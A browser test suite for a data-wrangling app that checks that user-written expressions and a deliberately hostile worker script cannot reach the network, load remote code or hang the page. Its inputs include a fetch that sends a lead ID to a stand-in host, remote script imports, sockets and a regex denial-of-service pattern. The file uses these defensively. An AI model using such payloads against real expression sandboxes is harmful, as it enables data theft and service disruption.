import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { probe, readCounts, visit, type Visit } from './harness';
import { PLACES } from './places';
import { dropFile, mainText, press, untilText } from './steps';

const ROWS = 400;
let folder: string;
let leads: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'leadbench-wrangle-'));
  leads = join(folder, 'leads.csv');
  const rows = Array.from({ length: ROWS }, (_, i) => {
    const day = String((i % 28) + 1).padStart(2, '0');
    return `00${1_000_000 + i},${i % 80},2024-0${(i % 9) + 1}-${day} 10:00:00,${i % 3 === 0 ? 'yes' : 'no'}`;
  });
  await writeFile(leads, ['lead_id,age,date,booked', ...rows].join('\n'));
});

afterAll(() => rm(folder, { recursive: true, force: true }));

/** Reads the lead file and waits for the panel. */
async function openLeads(visited: Visit): Promise<void> {
  await untilText(visited.page, 'Drop');
  await dropFile(visited.page, leads);
  await press(visited.page, 'Read the file');
  await untilText(visited.page, 'Free-form step');
}

async function write(page: Page, label: string, text: string): Promise<void> {
  await page.evaluate(
    (wanted, value) => {
      const found = [...document.querySelectorAll('label')].find(
        (one) => one.textContent === wanted,
      );
      const field = found?.control as HTMLInputElement | HTMLTextAreaElement;
      field.value = value;
      field.dispatchEvent(new Event('input', { bubbles: true }));
    },
    label,
    text,
  );
}

async function tryExpression(page: Page, expression: string): Promise<void> {
  await write(page, 'Expression', expression);
  await press(page, 'Try it');
}

describe.each(PLACES)('a free-form step in $name', ({ browser, headers, base }) => {
  let visited: Visit;

  afterEach(() => visited.close());

  it('filters, adds a column, is listed and is undone, while other threads take no code', async () => {
    visited = await visit({ browser, headers, base });
    const { page } = visited;
    await openLeads(visited);

    await tryExpression(page, 'd => d.age >= 21 && d.age <= 55');
    await untilText(page, '400 rows before, 175 after');
    await press(page, 'Apply');
    await untilText(page, 'Undo the last step');
    await press(page, 'Add a column');
    await write(page, 'Name of the new column', 'year');
    await tryExpression(page, 'd => op.year(d.date)');
    await untilText(page, '175 rows before, 175 after');
    await press(page, 'Apply');
    await page.waitForFunction(() => document.querySelectorAll('main ol li').length === 2);
    expect(await mainText(page)).toContain('d => op.year(d.date)');

    await press(page, 'Undo the last step');
    await page.waitForFunction(() => document.querySelectorAll('main ol li').length === 1);
    await press(page, 'Undo the last step');
    await page.waitForFunction(() => document.querySelectorAll('main ol li').length === 0);
    expect(await probe(page)).toMatchObject({ fetchRefused: true, codeRefused: true });
    expect(visited.complaints).toEqual([]);
    expect(visited.foreign).toEqual([]);
    expect(await readCounts(page)).toMatchObject({ refused: 0 });
  });

  it('says what is wrong with an expression, and one that would send reaches nobody', async () => {
    visited = await visit({ browser, headers, base });
    const { page } = visited;
    await openLeads(visited);

    for (const expression of [
      'd => d.nowhere',
      'd => fetch("https://example.org/" + d.lead_id)',
      'd => import("https://example.org/x.js")',
      'd => new WebSocket("wss://example.org/")',
      'd => { while (true); }',
    ]) {
      await tryExpression(page, expression);
      await untilText(page, 'The expression cannot be run');
      await write(page, 'Expression', '');
      await page.evaluate(() => {
        document.querySelector<HTMLElement>('[aria-label="Close"]')?.click();
      });
    }
    expect(visited.foreign).toEqual([]);
  });

  it('that does not end is cancelled, and the table is still there', async () => {
    visited = await visit({ browser, headers, base });
    const { page } = visited;
    await openLeads(visited);

    const endless = `d => op.match('${'a'.repeat(40)}b', /^(a+)+$/)`;
    await tryExpression(page, endless);
    await page.waitForFunction(() =>
      [...document.querySelectorAll('button')].some((one) => one.textContent.trim() === 'Cancel'),
    );
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await page.evaluate(() => {
      [...document.querySelectorAll('button')]
        .find((one) => one.textContent.trim() === 'Cancel')
        ?.click();
    });
    await untilText(page, 'stopped');
    await tryExpression(page, 'd => d.age < 10');
    await untilText(page, '400 rows before, 50 after');
    expect(await mainText(page)).toContain('Apply');
  });
});

/** A try that stands still is given up, and made again. */
const STALLS = { retry: 2, timeout: 45_000 };

/** Code that came past Arquero, in a script answered with the policy of that one file. */
const HOSTILE = `
  const make = (code) => Reflect.construct(Function, ['return ' + code])();
  const refused = (call) => Promise.resolve().then(call).then(() => 'answered', () => 'refused');
  const opened = (socket) =>
    new Promise((resolve, reject) => {
      socket.onopen = resolve;
      socket.onerror = reject;
      setTimeout(reject, 5000);
    });
  self.postMessage({
    code: make('1 + 1'),
    data: await refused(() => make("fetch('data:,x')")),
    own: await refused(() => make("fetch('/index.html')")),
    foreign: await refused(() => make("fetch('https://example.org/')")),
    socket: await refused(() => opened(make("new WebSocket('wss://example.org/')"))),
    source: await refused(() => opened(make("new EventSource('/index.html')"))),
    script: await refused(() => make("import('https://example.org/x.js')")),
    ownScript: await refused(() => make("import('/assets/other.js')")),
    dataScript: await refused(() => make("import('data:text/javascript,1')")),
    worker: await refused(() => new Promise((resolve, reject) => {
      const worker = make("new Worker('/assets/other.js')");
      worker.onmessage = resolve;
      worker.onerror = reject;
      setTimeout(reject, 5000);
    })),
  });
`;

describe.each(['chromium', 'firefox'] as const)('the policy of the one file, in %s', (browser) => {
  // Firefox 153 may stand still in a worker that creates another (docs/decisions.md), as this one does.
  it('lets code be made of text, and shuts every door to that code', STALLS, async () => {
    const root = join(folder, browser);
    await mkdir(join(root, 'assets'), { recursive: true });
    await writeFile(join(root, 'index.html'), '<!doctype html><title>x</title><h1>x</h1>');
    await writeFile(join(root, 'assets/other.js'), 'self.postMessage(1)');
    await writeFile(join(root, 'assets/wrangle.worker-hostile.js'), HOSTILE);
    const visited = await visit({ browser, root, headers: true, controlled: false });
    try {
      const { code, ...doors } = await visited.page.evaluate(run, 'wrangle.worker-hostile.js');

      expect(code).toBe(2);
      expect(doors).toEqual(
        Object.fromEntries(Object.keys(doors).map((door) => [door, 'refused'])),
      );
      expect(Object.keys(doors)).toHaveLength(9);
      expect(visited.foreign).toEqual([]);
    } finally {
      await visited.close();
    }
  });
});

/** In the page: the answer of a worker of assets/. */
function run(file: string): Promise<Record<string, unknown>> {
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes?: { createPolicy(name: string, rules: object): unknown };
  };
  trustedTypes?.createPolicy('default', { createScriptURL: (text: string) => text });
  return new Promise((resolve, reject) => {
    const worker = new Worker(`/assets/${file}`, { type: 'module' });
    worker.onmessage = (event) => resolve(event.data as Record<string, unknown>);
    worker.onerror = () => reject(new Error('the script did not start'));
  });
}
